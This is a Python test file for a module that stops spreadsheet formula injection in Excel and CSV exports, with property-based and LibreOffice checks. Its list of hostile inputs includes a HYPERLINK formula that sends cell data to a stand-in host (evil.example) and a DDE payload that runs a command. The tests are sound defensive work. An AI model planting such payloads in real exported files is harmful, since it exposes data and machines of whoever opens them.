"""kaohe.lib.spreadsheets: text that a spreadsheet would run as a formula is written as text,
in Excel and in CSV, and numbers stay numbers (security.md 29)."""

import csv
import datetime
import io
import os
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from kaohe.lib import spreadsheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "-5",
    "＝1+1",
]


def _written(*rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        spreadsheets.write_row(workbook.active, row)
    return spreadsheets.workbook_bytes(workbook)


def _cells(data: bytes):
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


def _no_formula_in_the_file(data: bytes):
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            xml = archive.read(name)
            assert b"<f>" not in xml and b"<f " not in xml, name


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_is_kept_as_text(text):
    data = _written([text, "旁边的单元格"])
    _no_formula_in_the_file(data)
    cell, plain = _cells(data)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("旁边的单元格", "s", False)


def test_plain_sheet_append_would_have_written_a_formula():
    # What the module is for: openpyxl alone stores such text as a formula.
    workbook = Workbook()
    workbook.active.append([HOSTILE[0], "=1+1", "ok"])
    assert [c.data_type for c in workbook.active[1]] == ["f", "f", "s"]
    assert spreadsheets.neutralise(workbook) == 2
    data = spreadsheets.workbook_bytes(workbook)
    _no_formula_in_the_file(data)
    assert [(c.value, c.data_type, c.quotePrefix) for c in _cells(data)] == [
        (HOSTILE[0], "s", True), ("=1+1", "s", True), ("ok", "s", False)]


def test_numbers_dates_and_booleans_keep_their_types():
    moment = datetime.datetime(2017, 12, 15, 9, 30)
    data = _written([-5, 2.5, Decimal("-1.5"), 0, True, None, moment, datetime.date(2018, 1, 31)])
    cells = _cells(data)
    assert [c.value for c in cells[:7]] == [-5, 2.5, -1.5, 0, True, None, moment]
    assert cells[7].value == datetime.datetime(2018, 1, 31)
    assert [c.data_type for c in cells] == ["n", "n", "n", "n", "b", "n", "d", "d"]
    assert not any(c.quotePrefix for c in cells)


def test_error_codes_typed_as_text_stay_text():
    (cell,) = _cells(_written(["#N/A"]))
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_control_characters_the_format_cannot_hold_are_dropped_not_fatal():
    (cell,) = _cells(_written(["整改\x01措施\x08"]))
    assert cell.value == "整改措施"


def test_a_loaded_workbook_is_neutralised_on_saving():
    workbook = Workbook()
    workbook.active["A1"] = "=SUM(1,2)"
    buffer = io.BytesIO()
    workbook.save(buffer)
    loaded = load_workbook(io.BytesIO(buffer.getvalue()))
    assert loaded.active["A1"].data_type == "f"
    (cell,) = _cells(spreadsheets.workbook_bytes(loaded))
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=SUM(1,2)", "s", True)


def test_save_workbook_writes_a_neutralised_file(tmp_path):
    workbook = Workbook()
    workbook.active.append(["=1+1"])
    spreadsheets.save_workbook(workbook, tmp_path / "out.xlsx")
    _no_formula_in_the_file((tmp_path / "out.xlsx").read_bytes())


def test_header_text_escapes_header_codes():
    assert spreadsheets.header_text("张三&F&Z") == "张三&&F&&Z"


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_puts_an_apostrophe_before_text_that_looks_like_a_formula(text):
    buffer = io.StringIO(newline="")
    spreadsheets.csv_writer(buffer, lineterminator="\r\n").writerow([text, "文本", -5, 2.5, None])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + text, "文本", "-5", "2.5", ""]


def test_csv_writer_returns_what_the_stream_returns():
    class Echo:
        def write(self, value):
            return value

    writer = spreadsheets.csv_writer(Echo(), lineterminator="\r\n")
    assert writer.writerow(["=1", 1]) == "'=1,1\r\n"


def test_safe_cell_leaves_non_text_alone():
    for value in (-5, -2.5, Decimal("-3"), datetime.date(2017, 1, 1), True, None):
        assert spreadsheets.safe_cell(value) is value
    assert spreadsheets.safe_cell("-5") == "'-5"
    assert spreadsheets.safe_cell("单位-5") == "单位-5"


# Properties ---------------------------------------------------------------------------------

VALUES = st.one_of(
    st.text(max_size=40),
    st.sampled_from(HOSTILE).flatmap(lambda p: st.text(max_size=10).map(lambda s: p + s)),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False, min_value=-1e15, max_value=1e15),
    st.booleans(),
    st.none(),
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(VALUES, min_size=1, max_size=6), min_size=1, max_size=6))
def test_no_written_cell_is_a_formula_and_values_round_trip(rows):
    data = _written(*rows)
    _no_formula_in_the_file(data)
    sheet = load_workbook(io.BytesIO(data)).active
    for number, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(number, column)
            assert cell.data_type != "f"
            if isinstance(value, str):
                expected = ILLEGAL_CHARACTERS_RE.sub("", value)
                assert cell.value == (expected or None)
                if expected:
                    assert cell.data_type == "s"
                    assert cell.quotePrefix == expected.startswith(spreadsheets.FORMULA_PREFIXES)
            elif isinstance(value, bool) or value is None:
                assert cell.value is value
            else:  # a float with no fraction comes back as an int; 16 digits, as Excel keeps
                assert cell.value == pytest.approx(value, rel=1e-15) and cell.data_type == "n"
                assert isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool)


@given(st.lists(VALUES, min_size=1, max_size=8))
def test_no_csv_field_from_text_starts_a_formula(row):
    buffer = io.StringIO(newline="")
    spreadsheets.csv_writer(buffer).writerow(row)
    fields = next(csv.reader(io.StringIO(buffer.getvalue())), [])
    for value, field in zip(row, fields + [""] * (len(row) - len(fields)), strict=True):
        if isinstance(value, str):
            if value.startswith(spreadsheets.FORMULA_PREFIXES):
                assert field == "'" + value
            else:
                assert field == value
        elif value is not None:
            assert field == str(value)  # numbers stay numbers, negative ones included


# As a user opens them ---------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# Writer alone (installed for the documents' page counts) cannot open a workbook.
CALC = SOFFICE is not None and (
    Path(os.path.realpath(SOFFICE)).parent / "libsclo.so").exists()


CSV_FILTER = "Text - txt - csv (StarCalc):44,34,76"  # comma, double quote, UTF-8


def _soffice(source, target_format, out_dir, home):
    infilter = [f"--infilter={CSV_FILTER}"] if source.suffix == ".csv" else []
    subprocess.run(  # noqa: S603 - LibreOffice on our own temporary files
        [SOFFICE, "--headless", "--norestore", *infilter,
         "--convert-to", target_format, "--outdir", str(out_dir), str(source)],
        check=True, capture_output=True, timeout=180,
        env={**os.environ, "HOME": str(home)},
    )


@pytest.mark.skipif(not CALC, reason="LibreOffice Calc is not installed")
def test_libreoffice_shows_the_text_and_runs_no_formula(tmp_path):
    texts = [t for t in HOSTILE if not t.startswith(("\t", "\r"))]
    (tmp_path / "book.xlsx").write_bytes(_written(*[[t, 1] for t in texts]))
    # As a CSV file opened by LibreOffice, whose import runs formulas.
    with (tmp_path / "table.csv").open("w", encoding="utf-8", newline="") as handle:
        spreadsheets.csv_writer(handle).writerows([[t, 1] for t in texts] + [["=1+1", -5]])
    _soffice(tmp_path / "book.xlsx", f"csv:{CSV_FILTER}",
             tmp_path / "out", tmp_path)
    shown = (tmp_path / "out" / "book.csv").read_text(encoding="utf-8")
    assert [row[0] for row in csv.reader(io.StringIO(shown))] == texts
    _soffice(tmp_path / "table.csv", "xlsx", tmp_path / "out", tmp_path)
    cells = [row for row in load_workbook(tmp_path / "out" / "table.xlsx").active.iter_rows()]
    assert all(c.data_type != "f" for row in cells for c in row)
    assert [row[0].value for row in cells] == ["'" + t for t in texts] + ["'=1+1"]
    assert cells[-1][1].value == -5


# Every writer goes through this module -------------------------------------------------------


def _sources():
    root = Path(spreadsheets.__file__).parent.parent
    for path in sorted(root.rglob("*.py")):
        if path.name != "spreadsheets.py" and "migrations" not in path.parts:
            yield path, path.read_text(encoding="utf-8")


def test_no_module_writes_csv_or_excel_around_the_spreadsheet_module():
    for path, source in _sources():
        assert "csv.writer(" not in source and "csv.DictWriter(" not in source, path
        # It builds an Excel file with openpyxl: saved neutralised.
        if re.search(r"openpyxl\.Workbook\(|from openpyxl import [^\n]*\bWorkbook\b", source):
            assert "workbook_bytes(" in source or "save_workbook(" in source, path
